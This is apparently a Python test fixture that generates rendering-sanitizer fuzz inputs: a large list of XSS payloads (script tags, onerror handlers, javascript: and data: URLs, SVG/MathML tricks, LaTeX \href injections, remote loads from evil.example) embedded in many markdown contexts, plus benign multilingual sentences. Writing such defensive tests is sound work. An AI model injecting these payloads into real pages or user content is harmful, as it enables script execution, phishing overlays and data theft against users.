"""Texts that try to get something live onto the page, and innocent ones in many scripts; the same every time."""

# ruff: noqa: E501, RUF001

import random

_HTML = """
<script>alert(1)</script>|<script src=http://evil.example/x.js></script>|<img src=x onerror=alert(1)>|<img src=http://evil.example/p.png>
<svg onload=alert(1)>|<svg><script>alert(1)</script></svg>|<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x>|<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>|<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>|<mtext><img src=x onerror=alert(1)></mtext>
<iframe src=javascript:alert(1)></iframe>|<iframe srcdoc="<script>alert(1)</script>"></iframe>|<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>|<form action=http://evil.example><input name=q autofocus onfocus=alert(1)><button>x</button></form>
<video src=http://evil.example/v autoplay onplay=alert(1)>|<audio src=x onerror=alert(1)>|<style>*{display:none}</style>
<style>@import url(http://evil.example/a.css);</style>|<link rel=stylesheet href=http://evil.example/a.css>|<base href=http://evil.example/>
<meta http-equiv=refresh content="0;url=http://evil.example/">|<div style="position:fixed;inset:0;z-index:99999">over</div>
<div style="background:url(http://evil.example/b)">x</div>|<body onload=alert(1)>|<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>|<isindex action=javascript:alert(1)>|<a href=javascript:alert(1)>x</a>|<a href=x onclick=alert(1)>x</a>
<a style=position:fixed;inset:0 href=http://evil.example>x</a>|<template><img src=x onerror=alert(1)></template>|<xmp><img src=x onerror=alert(1)></xmp>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>|<textarea></textarea><img src=x onerror=alert(1)>|<title><img src=x></title>
<!--><img src=x onerror=alert(1)>-->|<![CDATA[<img src=x onerror=alert(1)>]]>|<?xml-stylesheet href="javascript:alert(1)"?>|<!DOCTYPE x>
<button data-act="hc_delete" data-key="guess" data-id="1">x</button>|<span class="hc-place"></span>|<p class="hc-user">I said this</p>|<slot name=x>
<dialog open>x</dialog>|<portal src=http://evil.example>|<input type=image src=x onerror=alert(1)>|<select autofocus onfocus=alert(1)>|<keygen autofocus>
</div></div></article><div id=hc-composer>|</code></pre></div><img src=x onerror=alert(1)>|"><img src=x onerror=alert(1)>|'><script>alert(1)</script>
&lt;img src=x onerror=alert(1)&gt;|&#60;script&#62;alert(1)&#60;/script&#62;|&amp;lt;script&amp;gt;|\\u003cimg src=x onerror=alert(1)\\u003e|${alert(1)}|{{alert(1)}}|{@html alert(1)}
"""
_ADDRESSES = """
javascript:alert(1)|JAVASCRIPT:alert(1)|java\tscript:alert(1)|java\nscript:alert(1)|\x01javascript:alert(1)|javascript&colon;alert(1)|&#106;avascript:alert(1)
javascript&#x3a;alert(1)|jav&Tab;ascript:alert(1)|%6aavascript:alert(1)|data:text/html,<script>alert(1)</script>|data:image/svg+xml,<svg onload=alert(1)>
data:image/png;base64,AAAA|vbscript:msgbox(1)|file:///etc/passwd|//evil.example/x|/gradio_api/run|http://evil.example/"onmouseover="alert(1)
http://evil.example/'><img src=x onerror=alert(1)>|http://evil.example/%22%3e%3cscript%3e|mailto:a@b.example?body=<script>|blob:http://x|about:blank|http://[::1]/|http://evil.example:99999/|x:y|#x
http://user:pass@evil.example/|http://evil.example/\u202egnp.exe|\u0000javascript:alert(1)|feed:javascript:alert(1)|view-source:http://x
"""
_TEX = r"""
\href{javascript:alert(1)}{x}|\url{javascript:alert(1)}|\text{<img src=x onerror=alert(1)>}|\text{</math><img src=x onerror=alert(1)>}|\mathrm{<script>}
\require{html}\style{position:fixed;inset:0}{x}|\class{hc-act}{x}|\cssId{hc-box}{x}|\htmlStyle{position:fixed}{x}|\includegraphics{http://evil.example/x}
\color{red;position:fixed}{x}|\textcolor{url(http://evil.example)}{x}|\unicode{x3c}img|\hspace{-9999em}x|\kern{9999em}x|\raisebox{-999em}{x}|\rule{999em}{999em}
\def\a{\a\a}\a|\newcommand{\x}{\x\x}\x|\text{&lt;img src=x onerror=alert(1)&gt;}|\begin{array}{c}<b>\end{array}|\tag{<img src=x onerror=alert(1)>}|x" onload="alert(1)
\frac{<svg onload=alert(1)>}{x}|\operatorname{<b>}|\left<script\right>|\verb|<b>||\genfrac{}{}{999em}{}{a}{b}|\Huge\Huge\Huge x|\mathchoice{a}{b}{c}{d}|\char"3C|^^3c
"""
VECTORS = [part for part in (_HTML + _TEX).replace("\n", "|").split("|") if part]
ADDRESSES = [
    part for part in _ADDRESSES.strip("\n").replace("|", "\0\0").replace("\n", "\0\0").split("\0\0") if part
]

_AROUND = [
    "{0}", "a {0} b", "**{0}**", "_{0}_", "~~{0}~~", "`{0}`", "``{0}``", "`a\n{0}`", "# {0}", "{0}\n===", "> {0}",
    "> > {0}", "> ```\n> q\n\n{0}", "> ```\n{0}\n> ```", "- {0}", "- a\n\n  {0}", "1. ```\n   {0}\n   ```", "- [x] {0}",
    "```\n{0}\n```", "```{0}\nx\n```", "``` {0} \"x\"\n{0}", "~~~{0}\n{0}\n~~~", "    {0}", "\t{0}", "|{0}|b|\n|-|:-:|\n|c|{0}|",
    "| a | b |\n|---|---|\n| `{0}` | {0} | {0} |", "[{0}](http://a.example)", "[a](http://a.example '{0}')",
    "[a](http://a.example \"{0}\")", "[a](http://a.example ({0}))", "![{0}](http://a.example/i.png)", "![a](http://a.example \"{0}\")",
    "[a]\n\n[a]: http://a.example \"{0}\"", "[a]: http://a.example\n'{0}'\n\n[a]", "[{0}]: http://a.example\n\n[{0}]", "[![{0}](http://a.example)](http://b.example)",
    "<{0}>", "<http://a.example/{0}>", "http://a.example/{0}", "www.a.example/{0}", "a@b.example{0}", "${0}$", "$${0}$$", "\\({0}\\)", "\\[{0}\\]",
    "$$\n{0}\n$$", "- \\[\n  {0}\n  \\]", "\\begin{{align}}{0}\\end{{align}}", "\\text{{{0}}}", "$\\text{{{0}}}$", "$\\frac{{{0}}}{{2}}$", "a\\\n{0}", "\\{0}",
    "{0}\n{0}", "{0}\n\n{0}", "***\n{0}\n***", "[^1]: {0}\n\na[^1]", "> [!NOTE]\n> {0}", ":::{0}\n:::", "<div>\n\n{0}\n\n</div>", "<!--\n{0}\n-->", "*a{0}*b", "[a][{0}]",
]  # fmt: skip
_LINKS = [
    "[a]({0})", "[a](<{0}>)", "![a]({0})", "![a](<{0}>)", "<{0}>", "{0}", "[a]\n\n[a]: {0}", "[a]\n\n[a]: <{0}> 't'", "[a][b]\n\n[b]: {0}",
    "[![a]({0})]({0})", "- [a]({0})", "> [a]({0})", "|[a]({0})|\n|-|", "# [a]({0})", "**[a]({0})**", "$\\href{{{0}}}{{a}}$", "[a]({0} \"t\")", "see {0}.",
]  # fmt: skip

_SENTENCES = """
The quick brown fox, 42 of them, jumps.|Zażółć gęślą jaźń.|Съешь ещё этих мягких булок.|Ξεσκεπάζω την ψυχοφθόρα βδελυγμία.|שלום עולם, זה מבחן 7.|هذا نص عربي مع كلمة test وسط.
یک متن فارسی با نیم‌فاصله.|敏捷的棕色狐狸。|素早い茶色の狐、カタカナ。|빠른 갈색 여우.|तेज़ भूरी लोमड़ी।|দ্রুত বাদামী শিয়াল।|விரைவான பழுப்பு நரி.|เร็วสุนัขจิ้งจอก|ফাস্ট|ስድስት ሰባት።|სწრაფი მელა|արագ աղվես|👩‍👩‍👧‍👦 and 🏳️‍🌈 é|naïve café — “quotes” … ½ ™|x̂ y̌ z̃ combined|ᚠᚢᚦ runes|𝒳 𝔜 astral 𐍈
"""
SENTENCES = [part for part in _SENTENCES.replace("\n", "|").split("|") if part]


def hostile(count: int) -> list[str]:
    """Every vector at least once, every place at least once, and random pairs of both; sometimes two in a row."""
    chance = random.Random(12)
    texts = [chance.choice(_AROUND).format(vector) for vector in VECTORS]
    texts += [around.format(chance.choice(VECTORS)) for around in _AROUND]
    texts += [link.format(address) for link in _LINKS for address in ADDRESSES]
    while len(texts) < count:
        text = chance.choice(_AROUND).format(chance.choice(VECTORS))
        if chance.random() < 0.5:
            text = chance.choice(_AROUND).format(
                text.replace("\n", chance.choice(["\n", "\n> ", "\n  ", " "]))
            )
        if chance.random() < 0.3:
            text += chance.choice(["\n", "\n\n"]) + chance.choice(_AROUND).format(chance.choice(VECTORS))
        texts.append(text)
    return texts[:count]


def innocent(count: int) -> list[str]:
    """Sentences of many scripts in every place."""
    chance = random.Random(34)
    pairs = [around.format(sentence) for sentence in SENTENCES for around in _AROUND]
    chance.shuffle(pairs)
    return pairs[:count]
